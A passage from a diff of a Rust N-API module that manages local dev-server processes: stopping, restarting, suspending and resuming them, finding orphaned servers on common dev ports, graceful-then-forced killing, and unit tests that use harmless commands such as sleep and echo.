+            let tsfn: ThreadsafeFunction<RestartEvent, ErrorStrategy::Fatal> =
+                callback.create_threadsafe_function(0, |ctx| Ok(vec![ctx.value]))?;
+            Some(Box::new(move |event| {
+                tsfn.call(event, ThreadsafeFunctionCallMode::NonBlocking);
+            }))
+        }
+        None => None,
+    };
+
+    watch_restart(project_path, glob_patterns, command, args, debounce_ms, on_restart)
+}
+
+/// Stop a `watch_and_restart` loop and the process it manages
+///
+/// # Arguments
+/// * `watch_id` - Watch id returned by `watch_and_restart`
+///
+/// # Returns
+/// * `Result<bool>` - true if the watch existed and was stopped
+#[napi]
+pub fn stop_watch_and_restart(watch_id: u32) -> Result<bool> {
+    let stop = WATCHERS
+        .lock()
+        .map_err(|_| Error::new(Status::GenericFailure, "Watcher registry lock poisoned"))?
+        .remove(&watch_id);
+
+    match stop {
+        Some(stop) => {
+            stop.store(true, AtomicOrdering::SeqCst);
+            Ok(true)
+        }
+        None => Ok(false),
+    }
+}
+
+/// Stop every managed process that was spawned for a project
+///
+/// # Arguments
+/// * `project_path` - Project path the processes were spawned in
+///
+/// # Returns
+/// * `Result<u32>` - Number of processes that were stopped
+#[napi]
+pub fn cleanup_project(project_path: String) -> Result<u32> {
+    let project = std::path::Path::new(&project_path);
+
+    let pids: Vec<u32> = lock_processes()?
+        .iter()
+        .filter(|(_, process)| !process.stop_requested)
+        .filter(|(_, process)| std::path::Path::new(&process.spec.project_path) == project)
+        .map(|(pid, _)| *pid)
+        .collect();
+
+    let mut stopped = 0;
+    for pid in pids {
+        if kill_process(pid).is_ok() {
+            stopped += 1;
+        }
+    }
+
+    Ok(stopped)
+}
+
+/// List the managed processes that are still running
+///
+/// # Returns
+/// * `Result<Vec<ProcessHandle>>` - Running processes spawned by this module, oldest first.
+///   Exited processes are reaped, released (see `get_process_exit_status`) and left out
+#[napi]
+pub fn list_managed_processes() -> Result<Vec<ProcessHandle>> {
+    let mut processes = lock_processes()?;
+
+    let pids: Vec<u32> = processes.keys().copied().collect();
+    let running: Vec<u32> = pids
+        .into_iter()
+        .filter(|pid| matches!(reap_managed(&mut processes, *pid), Some(Ok(None))))
+        .collect();
+
+    let mut handles: Vec<ProcessHandle> = running
+        .iter()
+        .filter_map(|pid| processes.get(pid).map(|process| (pid, process)))
+        .map(|(pid, process)| ProcessHandle {
+            pid: *pid,
+            command: process.spec.full_command(),
+            started_at_ms: process.started_at_ms,
+        })
+        .collect();
+
+    handles.sort_by(|a, b| a.started_at_ms.total_cmp(&b.started_at_ms).then(a.pid.cmp(&b.pid)));
+    Ok(handles)
+}
+
+/// Stop every running managed process, e.g. when the app shuts down
+///
+/// # Returns
+/// * `Result<u32>` - Number of processes that were signalled to stop
+#[napi]
+pub fn kill_all_managed_processes() -> Result<u32> {
+    let pids: Vec<u32> = list_managed_processes()?.into_iter().map(|handle| handle.pid).collect();
+
+    let mut stopped = 0;
+    for pid in pids {
+        if kill_process(pid).is_ok() {
+            stopped += 1;
+        }
+    }
+
+    Ok(stopped)
+}
+
+#[napi(object)]
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ProjectRestartResult {
+    /// PID of the process before the restart
+    pub previous_pid: u32,
+    /// Handle of the restarted process, when the restart succeeded
+    pub handle: Option<ProcessHandle>,
+    /// Why the restart failed, when it did
+    pub error: Option<String>,
+}
+
+/// Restart every managed process that was spawned for a project
+///
+/// # Arguments
+/// * `project_path` - Project path the processes were spawned in
+///
+/// # Returns
+/// * `Result<Vec<ProjectRestartResult>>` - One result per process, in no particular order.
+///   Each process is stopped gracefully and spawned again with its original parameters;
+///   a failed restart is reported in its result without affecting the others
+#[napi]
+pub fn restart_project_servers(project_path: String) -> Result<Vec<ProjectRestartResult>> {
+    let project = std::path::Path::new(&project_path);
+
+    let pids: Vec<u32> = lock_processes()?
+        .iter()
+        .filter(|(_, process)| !process.stop_requested)
+        .filter(|(_, process)| std::path::Path::new(&process.spec.project_path) == project)
+        .map(|(pid, _)| *pid)
+        .collect();
+
+    // Restart concurrently so one slow shutdown doesn't delay the rest
+    let restarts: Vec<_> = pids
+        .into_iter()
+        .map(|pid| (pid, thread::spawn(move || restart_managed_process(pid))))
+        .collect();
+
+    let results = restarts
+        .into_iter()
+        .map(|(previous_pid, restart)| {
+            let outcome = restart.join().unwrap_or_else(|_| {
+                Err(Error::new(Status::GenericFailure, "Restart thread panicked"))
+            });
+            match outcome {
+                Ok(handle) => ProjectRestartResult {
+                    previous_pid,
+                    handle: Some(handle),
+                    error: None,
+                },
+                Err(e) => ProjectRestartResult {
+                    previous_pid,
+                    handle: None,
+                    error: Some(e.reason),
+                },
+            }
+        })
+        .collect();
+
+    Ok(results)
+}
+
+/// Send a job-control signal, reporting a missing process as an error
+#[cfg(unix)]
+fn send_job_control_signal(pid: u32, signal: nix::sys::signal::Signal) -> Result<()> {
+    use nix::sys::signal;
+    use nix::unistd::Pid;
+
+    validate_pid(pid)?;
+    signal::kill(Pid::from_raw(pid as i32), signal).map_err(|e| {
+        let status = if e == nix::errno::Errno::ESRCH {
+            Status::InvalidArg
+        } else {
+            Status::GenericFailure
+        };
+        Error::new(status, format!("Failed to send {} to process {}: {}", signal, pid, e))
+    })
+}
+
+/// Suspend a running process without killing it
+///
+/// # Arguments
+/// * `pid` - Process ID to suspend
+///
+/// # Returns
+/// * `Result<()>` - Success or error if the process doesn't exist
+///
+/// # Platform Handling
+/// * Unix/Linux/macOS: Sends SIGSTOP
+/// * Windows: Not supported (suspending requires pausing every thread of the process)
+#[napi]
+pub fn suspend_process(pid: u32) -> Result<()> {
+    #[cfg(unix)]
+    {
+        send_job_control_signal(pid, nix::sys::signal::Signal::SIGSTOP)
+    }
+
+    #[cfg(not(unix))]
+    {
+        Err(Error::new(
+            Status::GenericFailure,
+            format!("Suspending process {} is not supported on this platform", pid),
+        ))
+    }
+}
+
+/// Resume a process previously suspended with `suspend_process`
+///
+/// # Arguments
+/// * `pid` - Process ID to resume
+///
+/// # Returns
+/// * `Result<()>` - Success or error if the process doesn't exist
+///
+/// # Platform Handling
+/// * Unix/Linux/macOS: Sends SIGCONT
+/// * Windows: Not supported
+#[napi]
+pub fn resume_process(pid: u32) -> Result<()> {
+    #[cfg(unix)]
+    {
+        send_job_control_signal(pid, nix::sys::signal::Signal::SIGCONT)
+    }
+
+    #[cfg(not(unix))]
+    {
+        Err(Error::new(
+            Status::GenericFailure,
+            format!("Resuming process {} is not supported on this platform", pid),
+        ))
+    }
+}
+
+/// PIDs of a process and all of its descendants (e.g. `npm` and the `node` it starts)
+pub(crate) fn process_tree(root: u32) -> Vec<u32> {
+    let mut system = System::new();
+    system.refresh_processes_specifics(ProcessesToUpdate::All, true, ProcessRefreshKind::nothing());
+
+    let mut tree = vec![root];
+    let mut index = 0;
+    while index < tree.len() {
+        let parent = Pid::from_u32(tree[index]);
+        for (pid, process) in system.processes() {
+            if process.parent() == Some(parent) && !tree.contains(&pid.as_u32()) {
+                tree.push(pid.as_u32());
+            }
+        }
+        index += 1;
+    }
+
+    tree
+}
+
+#[napi(object)]
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ProcessInfo {
+    pub pid: u32,
+    /// Executable name
+    pub name: String,
+    /// Full command line, space-separated
+    pub command_line: String,
+    /// Working directory, when the OS lets us read it
+    pub cwd: Option<String>,
+}
+
+/// Default cap on the number of processes returned by `find_processes_by_name`
+const DEFAULT_PROCESS_SEARCH_LIMIT: u32 = 200;
+
+/// Find running processes whose executable name contains a substring
+///
+/// # Arguments
+/// * `name_substring` - Text to look for in the executable name, case-insensitively
+/// * `limit` - Maximum number of processes to return (default: 200)
+///
+/// # Returns
+/// * `Result<Vec<ProcessInfo>>` - Matching processes sorted by PID. This is a snapshot:
+///   processes may exit or start right after it is taken
+#[napi]
+pub fn find_processes_by_name(name_substring: String, limit: Option<u32>) -> Result<Vec<ProcessInfo>> {
+    if name_substring.trim().is_empty() {
+        return Err(Error::new(
+            Status::InvalidArg,
+            "Process name must not be empty",
+        ));
+    }
+
+    let needle = name_substring.to_lowercase();
+    let limit = limit.unwrap_or(DEFAULT_PROCESS_SEARCH_LIMIT) as usize;
+
+    let mut system = System::new();
+    system.refresh_processes_specifics(
+        ProcessesToUpdate::All,
+        true,
+        ProcessRefreshKind::nothing()
+            .with_cmd(UpdateKind::Always)
+            .with_cwd(UpdateKind::Always),
+    );
+
+    let mut matches: Vec<ProcessInfo> = system
+        .processes()
+        .iter()
+        .filter(|(_, process)| process.name().to_string_lossy().to_lowercase().contains(&needle))
+        .map(|(pid, process)| process_info(*pid, process))
+        .collect();
+
+    matches.sort_by_key(|info| info.pid);
+    matches.truncate(limit);
+    Ok(matches)
+}
+
+fn process_info(pid: Pid, process: &sysinfo::Process) -> ProcessInfo {
+    ProcessInfo {
+        pid: pid.as_u32(),
+        name: process.name().to_string_lossy().to_string(),
+        command_line: process
+            .cmd()
+            .iter()
+            .map(|arg| arg.to_string_lossy())
+            .collect::<Vec<_>>()
+            .join(" "),
+        cwd: process.cwd().map(|cwd| cwd.to_string_lossy().to_string()),
+    }
+}
+
+/// Ports dev servers commonly listen on, checked by `find_orphaned_servers`
+const COMMON_DEV_PORTS: [u16; 16] = [
+    3000, 3001, 3002, 3003, 4000, 4200, 4321, 5000, 5173, 5174, 5175, 6006, 8000, 8080, 8081, 8888,
+];
+
+#[napi(object)]
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct OrphanedServer {
+    pub port: u16,
+    /// The process listening on the port
+    pub process: ProcessInfo,
+}
+
+fn orphaned_servers_on_ports(project: &std::path::Path, ports: &[u16]) -> Result<Vec<OrphanedServer>> {
+    let project = project.canonicalize().unwrap_or_else(|_| project.to_path_buf());
+
+    // Servers started in this session (and the children they spawned) aren't orphans
+    let managed_pids: Vec<u32> = lock_processes()?.keys().copied().collect();
+    let managed_trees: Vec<u32> = managed_pids.into_iter().flat_map(process_tree).collect();
+
+    let mut system = System::new();
+    system.refresh_processes_specifics(
+        ProcessesToUpdate::All,
+        true,
+        ProcessRefreshKind::nothing()
+            .with_cmd(UpdateKind::Always)
+            .with_cwd(UpdateKind::Always),
+    );
+
+    let mut servers = Vec::new();
+    for &port in ports {
+        if !crate::port_scanner::is_port_listening(port)? {
+            continue;
+        }
+
+        let owners = crate::port_scanner::port_owner_pids(port).unwrap_or_default();
+        for pid in owners.into_iter().filter(|pid| !managed_trees.contains(pid)) {
+            let process = match system.process(Pid::from_u32(pid)) {
+                Some(process) => process,
+                None => continue,
+            };
+
+            let in_project = process
+                .cwd()
+                .map(|cwd| cwd.canonicalize().unwrap_or_else(|_| cwd.to_path_buf()))
+                .is_some_and(|cwd| cwd.starts_with(&project));
+            if in_project {
+                servers.push(OrphanedServer {
+                    port,
+                    process: process_info(Pid::from_u32(pid), process),
+                });
+            }
+        }
+    }
+
+    Ok(servers)
+}
+
+/// Find dev servers left running for a project, e.g. after the app crashed
+///
+/// # Arguments
+/// * `project_path` - Project whose servers to look for
+///
+/// # Returns
+/// * `Result<Vec<OrphanedServer>>` - Servers listening on common dev ports whose working
+///   directory is inside the project and that weren't spawned by this session
+///
+/// # Platform Handling
+/// Port owners are looked up with `lsof` (Unix) or `netstat` (Windows); processes whose
+/// working directory can't be read (e.g. owned by another user) are skipped.
+#[napi]
+pub fn find_orphaned_servers(project_path: String) -> Result<Vec<OrphanedServer>> {
+    validate_project_path(&project_path)?;
+    orphaned_servers_on_ports(std::path::Path::new(&project_path), &COMMON_DEV_PORTS)
+}
+
+/// Interval at which `stop_server_on_port` and `kill_process_graceful` check whether processes are gone
+const STOP_SERVER_POLL_INTERVAL: Duration = Duration::from_millis(100);
+
+/// Whether a process has exited, reaping it first if it is one of ours
+fn has_exited(pid: u32) -> bool {
+    if let Ok(mut processes) = lock_processes() {
+        // An unreaped child stays a zombie that still answers signal 0
+        if let Some(status) = reap_managed(&mut processes, pid) {
+            return matches!(status, Ok(Some(_)));
+        }
+    }
+
+    !is_process_running(pid).unwrap_or(false)
+}
+
+/// Stop the server listening on a port and wait until the port can be bound again
+///
+/// # Arguments
+/// * `port` - Port the server listens on
+/// * `timeout_ms` - How long to wait for the processes to exit and the port to be released
+///
+/// # Returns
+/// * `Result<Vec<u32>>` - PIDs that were signalled (the port owners and their children);
+///   empty if nothing was listening. On timeout the error says whether processes were
+///   still running or the port was still held after they exited
+#[napi]
+pub fn stop_server_on_port(port: u16, timeout_ms: u32) -> Result<Vec<u32>> {
+    if port == 0 {
+        return Err(Error::new(
+            Status::InvalidArg,
+            "Port number must be between 1 and 65535",
+        ));
+    }
+
+    // Children first, so a supervisor like npm doesn't respawn what was just stopped
+    let mut pids: Vec<u32> = Vec::new();
+    for owner in crate::port_scanner::port_owner_pids(port)? {
+        for pid in process_tree(owner).into_iter().rev() {
+            if !pids.contains(&pid) {
+                pids.push(pid);
+            }
+        }
+    }
+
+    for &pid in &pids {
+        let _ = kill_process(pid);
+    }
+
+    let deadline = Instant::now() + Duration::from_millis(timeout_ms as u64);
+    loop {
+        let running: Vec<u32> = pids.iter().copied().filter(|pid| !has_exited(*pid)).collect();
+        let port_free = crate::port_scanner::is_port_available(port, None)?;
+
+        if running.is_empty() && port_free {
+            return Ok(pids);
+        }
+
+        if Instant::now() >= deadline {
+            let reason = if running.is_empty() {
+                format!("processes exited but port {} is still in use", port)
+            } else {
+                format!("processes {:?} are still running", running)
+            };
+            return Err(Error::new(
+                Status::GenericFailure,
+                format!("Timed out after {}ms stopping server on port {}: {}", timeout_ms, port, reason),
+            ));
+        }
+
+        thread::sleep(STOP_SERVER_POLL_INTERVAL);
+    }
+}
+
+/// How long `kill_process_graceful` waits for a force-killed process to disappear
+const FORCE_KILL_TIMEOUT: Duration = Duration::from_secs(2);
+
+/// Poll until `pid` has exited or `timeout` elapses; returns whether it exited
+fn wait_for_exit(pid: u32, timeout: Duration) -> bool {
+    let deadline = Instant::now() + timeout;
+    loop {
+        if has_exited(pid) {
+            return true;
+        }
+        if Instant::now() >= deadline {
+            return false;
+        }
+        thread::sleep(STOP_SERVER_POLL_INTERVAL);
+    }
+}
+
+#[napi(object)]
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct GracefulKillResult {
+    pub pid: u32,
+    /// "graceful" if the process exited after the polite request, "forced" if it had to be killed
+    pub method: String,
+}
+
+/// Ask a process to exit, and force-kill it only if it is still running after a timeout
+///
+/// # Arguments
+/// * `pid` - Process ID to terminate
+/// * `timeout_ms` - How long to wait for a graceful exit before forcing it
+///
+/// # Returns
+/// * `Result<GracefulKillResult>` - Which method ended the process, so callers can warn
+///   about servers that ignore shutdown requests
+///
+/// # Platform Handling
+/// * Unix/Linux/macOS: SIGTERM, then SIGKILL
+/// * Windows: `taskkill /T`, then `taskkill /F /T`
+#[napi]
+pub fn kill_process_graceful(pid: u32, timeout_ms: u32) -> Result<GracefulKillResult> {
+    validate_pid(pid)?;
+
+    // Stop watchdogs from restarting a process that is being stopped on purpose
+    if let Some(process) = lock_processes()?.get_mut(&pid) {
+        process.stop_requested = true;
+    }
+
     #[cfg(unix)]
-    {
+    let (request_exit, force_exit) = {
         use nix::sys::signal::{self, Signal};
         use nix::unistd::Pid;
 
-        let pid = Pid::from_raw(pid as i32);
-
-        // Try SIGTERM first (graceful shutdown)
-        match signal::kill(pid, Signal::SIGTERM) {
-            Ok(_) => Ok(()),
-            Err(e) => {
-                // If SIGTERM fails, try SIGKILL (force kill)
-                match signal::kill(pid, Signal::SIGKILL) {
-                    Ok(_) => Ok(()),
-                    Err(_) => Err(Error::new(
-                        Status::GenericFailure,
-                        format!("Failed to kill process {}: {}", pid, e),
-                    )),
-                }
-            }
-        }
-    }
+        let send = |sig: Signal| {
+            signal::kill(Pid::from_raw(pid as i32), sig).map_err(|e| {
+                Error::new(
+                    Status::GenericFailure,
+                    format!("Failed to send {} to process {}: {}", sig, pid, e),
+                )
+            })
+        };
+        (move || send(Signal::SIGTERM), move || send(Signal::SIGKILL))
+    };
 
     #[cfg(windows)]
-    {
-        use std::process::Command;
+    let (request_exit, force_exit) = {
+        let taskkill = |force: bool| {
+            let pid_arg = pid.to_string();
+            let mut args = vec!["/PID", pid_arg.as_str(), "/T"];
+            if force {
+                args.push("/F");
+            }
 
-        // Use taskkill on Windows
-        let output = Command::new("taskkill")
-            .args(&["/PID", &pid.to_string(), "/F", "/T"])
-            .output()
-            .map_err(|e| {
+            let output = Command::new("taskkill").args(&args).output().map_err(|e| {
                 Error::new(
                     Status::GenericFailure,
                     format!("Failed to execute taskkill: {}", e),
                 )
             })?;
 
-        if output.status.success() {
-            Ok(())
-        } else {
-            let stderr = String::from_utf8_lossy(&output.stderr);
+            if output.status.success() {
+                Ok(())
+            } else {
+                Err(Error::new(
+                    Status::GenericFailure,
+                    format!("Failed to kill process {}: {}", pid, String::from_utf8_lossy(&output.stderr)),
+                ))
+            }
+        };
+        (move || taskkill(false), move || taskkill(true))
+    };
+
+    #[cfg(not(any(unix, windows)))]
+    let (request_exit, force_exit): (fn() -> Result<()>, fn() -> Result<()>) = {
+        let unsupported = || {
             Err(Error::new(
                 Status::GenericFailure,
-                format!("Failed to kill process {}: {}", pid, stderr),
+                "Process killing not supported on this platform",
             ))
-        }
+        };
+        (unsupported, unsupported)
+    };
+
+    request_exit()?;
+    if wait_for_exit(pid, Duration::from_millis(timeout_ms as u64)) {
+        return Ok(GracefulKillResult {
+            pid,
+            method: "graceful".to_string(),
+        });
     }
 
-    #[cfg(not(any(unix, windows)))]
-    {
-        Err(Error::new(
-            Status::GenericFailure,
-            "Process killing not supported on this platform",
-        ))
+    force_exit()?;
+    if wait_for_exit(pid, FORCE_KILL_TIMEOUT) {
+        return Ok(GracefulKillResult {
+            pid,
+            method: "forced".to_string(),
+        });
     }
+
+    Err(Error::new(
+        Status::GenericFailure,
+        format!("Process {} is still running after being force-killed", pid),
+    ))
 }
 
 /// Check if a process with the given PID is currently running
@@ -304,6 +2560,11 @@ pub fn kill_process(pid: u32) -> Result<()> {
 ///
 /// # Returns
 /// * `Result<bool>` - true if process is running, false otherwise
+///
+/// # Platform Handling
+/// * Unix: probes with signal 0. `EPERM` means the process exists but the caller may not
+///   signal it (another user, or a locked-down container), so it counts as running;
+///   only `ESRCH` reports it as gone
 #[napi]
 pub fn is_process_running(pid: u32) -> Result<bool> {
     #[cfg(unix)]
@@ -318,6 +2579,7 @@ pub fn is_process_running(pid: u32) -> Result<bool> {
         match signal::kill(pid, None) {
             Ok(_) => Ok(true),
             Err(nix::errno::Errno::ESRCH) => Ok(false), // No such process
+            Err(nix::errno::Errno::EPERM) => Ok(true),  // Running but not signalable
             Err(_) => Ok(false),
         }
     }
@@ -349,6 +2611,65 @@ pub fn is_process_running(pid: u32) -> Result<bool> {
     }
 }
 
+#[napi(object)]
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct ProcessRunningStatus {
+    pub pid: u32,
+    pub running: bool,
+}
+
+/// Check whether several processes are running with a single process-table refresh
+///
+/// # Arguments
+/// * `pids` - Process IDs to check
+///
+/// # Returns
+/// * `Vec<ProcessRunningStatus>` - One status per PID, in input order
+///
+/// # Behavior
+/// Managed processes are reaped and checked like `get_process_exit_status`. Other PIDs are
+/// read from the process table instead of being signalled, so processes owned by other
+/// users (which `is_process_running` sees as `EPERM`) are still reported as running, while
+/// zombies that have exited but not been reaped are not.
+#[napi]
+pub fn are_processes_running(pids: Vec<u32>) -> Vec<ProcessRunningStatus> {
+    // An exited but unreaped child stays in the process table, so ask the registry first
+    let mut known: HashMap<u32, bool> = HashMap::new();
+    if let Ok(mut processes) = lock_processes() {
+        for pid in &pids {
+            if let Some(Ok(status)) = reap_managed(&mut processes, *pid) {
+                known.insert(*pid, status.is_none());
+            }
+        }
+    }
+
+    let sysinfo_pids: Vec<Pid> = pids
+        .iter()
+        .filter(|pid| !known.contains_key(pid))
+        .map(|pid| Pid::from_u32(*pid))
+        .collect();
+
+    let mut system = System::new();
+    if !sysinfo_pids.is_empty() {
+        system.refresh_processes_specifics(
+            ProcessesToUpdate::Some(&sysinfo_pids),
+            true,
+            ProcessRefreshKind::nothing(),
+        );
+    }
+
+    pids.into_iter()
+        .map(|pid| {
+            let running = known.get(&pid).copied().unwrap_or_else(|| {
+                system
+                    .process(Pid::from_u32(pid))
+                    .is_some_and(|process| !matches!(process.status(), ProcessStatus::Zombie | ProcessStatus::Dead))
+            });
+            ProcessRunningStatus { pid, running }
+        })
+        .collect()
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -359,10 +2680,139 @@ mod tests {
             "/nonexistent/path/12345".to_string(),
             "echo".to_string(),
             vec!["test".to_string()],
+            None,
         );
         assert!(result.is_err());
     }
 
+    #[cfg(unix)]
+    #[test]
+    fn test_spawn_registers_and_kill_marks_stopped() {
+        let handle = spawn_dev_server(
+            std::env::temp_dir().to_string_lossy().to_string(),
+            "sleep".to_string(),
+            vec!["5".to_string()],
+            None,
+        )
+        .unwrap();
+        assert!(lock_processes().unwrap().contains_key(&handle.pid));
+
+        kill_process(handle.pid).unwrap();
+        assert!(lock_processes().unwrap()[&handle.pid].stop_requested);
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_cleanup_project_stops_tagged_processes() {
+        let project_dir = std::env::temp_dir().join("through_test_cleanup_project");
+        std::fs::create_dir_all(&project_dir).unwrap();
+        let project_path = project_dir.to_string_lossy().to_string();
+
+        let handle = spawn_dev_server(project_path.clone(), "sleep".to_string(), vec!["5".to_string()], None).unwrap();
+        assert_eq!(cleanup_project(format!("{}/", project_path)).unwrap(), 1);
+        assert!(lock_processes().unwrap()[&handle.pid].stop_requested);
+        assert_eq!(cleanup_project(project_path).unwrap(), 0);
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_restart_project_servers() {
+        let project_dir = std::env::temp_dir().join("through_test_restart_project");
+        std::fs::create_dir_all(&project_dir).unwrap();
+        let project_path = project_dir.to_string_lossy().to_string();
+
+        let handle = spawn_dev_server(project_path.clone(), "sleep".to_string(), vec!["30".to_string()], None).unwrap();
+        let results = restart_project_servers(project_path.clone()).unwrap();
+
+        assert_eq!(results.len(), 1);
+        assert_eq!(results[0].previous_pid, handle.pid);
+        assert!(results[0].error.is_none());
+        let new_pid = results[0].handle.as_ref().unwrap().pid;
+        assert_ne!(new_pid, handle.pid);
+        assert!(!lock_processes().unwrap().contains_key(&handle.pid));
+
+        assert_eq!(cleanup_project(project_path).unwrap(), 1);
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_watch_and_restart_restarts_on_change() {
+        let project_dir = std::env::temp_dir().join("through_test_watch_and_restart");
+        let _ = std::fs::remove_dir_all(&project_dir);
+        std::fs::create_dir_all(&project_dir).unwrap();
+        std::fs::write(project_dir.join("app.js"), "1").unwrap();
+
+        let (sender, receiver) = std::sync::mpsc::channel();
+        let handle = watch_restart(
+            project_dir.to_string_lossy().to_string(),
+            vec!["*.js".to_string()],
+            "sleep".to_string(),
+            vec!["30".to_string()],
+            100,
+            Some(Box::new(move |event| sender.send(event).unwrap())),
+        )
+        .unwrap();
+
+        std::fs::write(project_dir.join("app.js"), "22").unwrap();
+        let restarted = receiver.recv_timeout(Duration::from_secs(10)).unwrap();
+        assert_eq!(restarted.previous_pid, handle.pid);
+        assert_ne!(restarted.new_pid, 0);
+        assert!(restarted.error.is_none());
+        assert!(!lock_processes().unwrap().contains_key(&handle.pid));
+
+        // Respawning in a deleted directory fails and is reported
+        std::fs::remove_dir_all(&project_dir).unwrap();
+        let failed = receiver.recv_timeout(Duration::from_secs(10)).unwrap();
+        assert_eq!(failed.previous_pid, restarted.new_pid);
+        assert_eq!(failed.new_pid, 0);
+        assert!(failed.error.is_some());
+
+        assert!(stop_watch_and_restart(handle.watch_id).unwrap());
+        assert!(!stop_watch_and_restart(handle.watch_id).unwrap());
+
+        // Cleanup
+        let _ = std::fs::remove_dir_all(project_dir);
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_suspend_and_resume_process() {
+        let mut child = Command::new("sleep").arg("5").spawn().unwrap();
+
+        assert!(suspend_process(child.id()).is_ok());
+        assert!(resume_process(child.id()).is_ok());
+        assert!(suspend_process(999999).is_err());
+
+        // Cleanup
+        let _ = child.kill();
+        let _ = child.wait();
+    }
+
+    #[test]
+    fn test_expand_env_vars() {
+        let lookup = |name: &str| match name {
+            "PORT" => Some("3000".to_string()),
+            "HOME" => Some("/home/dev".to_string()),
+            _ => None,
+        };
+
+        assert_eq!(expand_env_vars("--port=${PORT}", &lookup), "--port=3000");
+        assert_eq!(expand_env_vars("$HOME/app", &lookup), "/home/dev/app");
+        assert_eq!(expand_env_vars("${MISSING}x$MISSING", &lookup), "x");
+        assert_eq!(expand_env_vars("cost: $5 $", &lookup), "cost: $5 $");
+    }
+
+    #[test]
+    fn test_detect_server_url() {
+        let vite = "  \u{1b}[32m➜\u{1b}[39m  \u{1b}[1mLocal\u{1b}[22m:   \u{1b}[36mhttp://localhost:\u{1b}[1m5173\u{1b}[22m/\u{1b}[39m";
+        assert_eq!(detect_server_url(vite).as_deref(), Some("http://localhost:5173/"));
+        assert_eq!(
+            detect_server_url("- Network: http://192.168.1.5:3000.").as_deref(),
+            Some("http://192.168.1.5:3000")
+        );
+        assert_eq!(detect_server_url("Learn more: https://nextjs.org/docs"), None);
+    }
+
     #[test]
     fn test_kill_nonexistent_process() {
         // Try to kill a PID that almost certainly doesn't exist
@@ -379,4 +2829,525 @@ mod tests {
             assert!(!running);
         }
     }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_is_process_running_unsignalable_process() {
+        // PID 1 always exists; unprivileged callers get EPERM, which still counts as running
+        assert!(is_process_running(1).unwrap());
+    }
+
+    #[test]
+    fn test_find_processes_by_name_finds_self() {
+        let own_pid = std::process::id();
+        let own_name = System::new_all()
+            .process(Pid::from_u32(own_pid))
+            .map(|process| process.name().to_string_lossy().to_string())
+            .unwrap();
+
+        let found = find_processes_by_name(own_name.to_uppercase(), None).unwrap();
+        assert!(found.iter().any(|info| info.pid == own_pid));
+        assert!(find_processes_by_name("  ".to_string(), None).is_err());
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_spawn_with_pty_reports_a_terminal() {
+        let logs: Arc<Mutex<Vec<String>>> = Arc::new(Mutex::new(Vec::new()));
+        let sink_logs = logs.clone();
+
+        let handle = spawn_managed(SpawnSpec {
+            project_path: std::env::temp_dir().to_string_lossy().to_string(),
+            command: "sh".to_string(),
+            args: vec!["-c".to_string(), "test -t 1 && echo is-a-tty".to_string()],
+            port: 0,
+            on_log: Some(Arc::new(move |log: LogData| sink_logs.lock().unwrap().push(log.log))),
+            on_event: None,
+            use_pty: true,
+            ansi_mode: AnsiMode::Raw,
+            env: Vec::new(),
+            clear_env: false,
+        })
+        .unwrap();
+
+        assert!(wait_for_managed_exit(handle.pid, Duration::from_secs(5)).unwrap());
+        thread::sleep(Duration::from_millis(100));
+        assert_eq!(*logs.lock().unwrap(), vec!["is-a-tty".to_string()]);
+        lock_processes().unwrap().remove(&handle.pid);
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_log_line_sink_labels_streams() {
+        let lines: Arc<Mutex<Vec<LogLine>>> = Arc::new(Mutex::new(Vec::new()));
+        let sink_lines = lines.clone();
+
+        let handle = spawn_managed(SpawnSpec {
+            project_path: std::env::temp_dir().to_string_lossy().to_string(),
+            command: "sh".to_string(),
+            args: vec!["-c".to_string(), "echo out; sleep 0.1; echo err >&2".to_string()],
+            port: 0,
+            on_log: Some(log_line_sink(Arc::new(move |line| sink_lines.lock().unwrap().push(line)))),
+            on_event: None,
+            use_pty: false,
+            ansi_mode: AnsiMode::Raw,
+            env: Vec::new(),
+            clear_env: false,
+        })
+        .unwrap();
+
+        assert!(wait_for_managed_exit(handle.pid, Duration::from_secs(5)).unwrap());
+        thread::sleep(Duration::from_millis(100));
+        let lines = lines.lock().unwrap();
+        let streams: Vec<(&str, &str)> = lines.iter().map(|l| (l.stream.as_str(), l.text.as_str())).collect();
+        assert_eq!(streams, vec![("stdout", "out"), ("stderr", "err")]);
+        assert!(lines.iter().all(|line| line.timestamp_ms > 0.0));
+        lock_processes().unwrap().remove(&handle.pid);
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_spawn_dev_server_env_merges_and_clears() {
+        std::env::set_var("THROUGH_TEST_INHERITED", "inherited");
+        let project_path = std::env::temp_dir().to_string_lossy().to_string();
+        let script = "echo \"$THROUGH_TEST_PORT:${THROUGH_TEST_INHERITED:-none}\"".to_string();
+
+        for (clear_env, expected) in [(false, "3001:inherited"), (true, "3001:none")] {
+            let lines: Arc<Mutex<Vec<String>>> = Arc::new(Mutex::new(Vec::new()));
+            let sink_lines = lines.clone();
+            let options = SpawnOptions {
+                env: Some(HashMap::from([("THROUGH_TEST_PORT".to_string(), "3001".to_string())])),
+                clear_env: Some(clear_env),
+                ..Default::default()
+            };
+
+            let handle = spawn_managed(SpawnSpec {
+                project_path: project_path.clone(),
+                command: "/bin/sh".to_string(),
+                args: vec!["-c".to_string(), script.clone()],
+                port: 0,
+                on_log: Some(Arc::new(move |log: LogData| sink_lines.lock().unwrap().push(log.log))),
+                on_event: None,
+                use_pty: false,
+                ansi_mode: AnsiMode::Raw,
+                env: options.env_vars(),
+                clear_env,
+            })
+            .unwrap();
+
+            assert!(wait_for_managed_exit(handle.pid, Duration::from_secs(5)).unwrap());
+            thread::sleep(Duration::from_millis(100));
+            assert_eq!(*lines.lock().unwrap(), vec![expected.to_string()]);
+            lock_processes().unwrap().remove(&handle.pid);
+        }
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_kill_process_graceful_escalates_when_sigterm_is_ignored() {
+        let project_path = std::env::temp_dir().to_string_lossy().to_string();
+
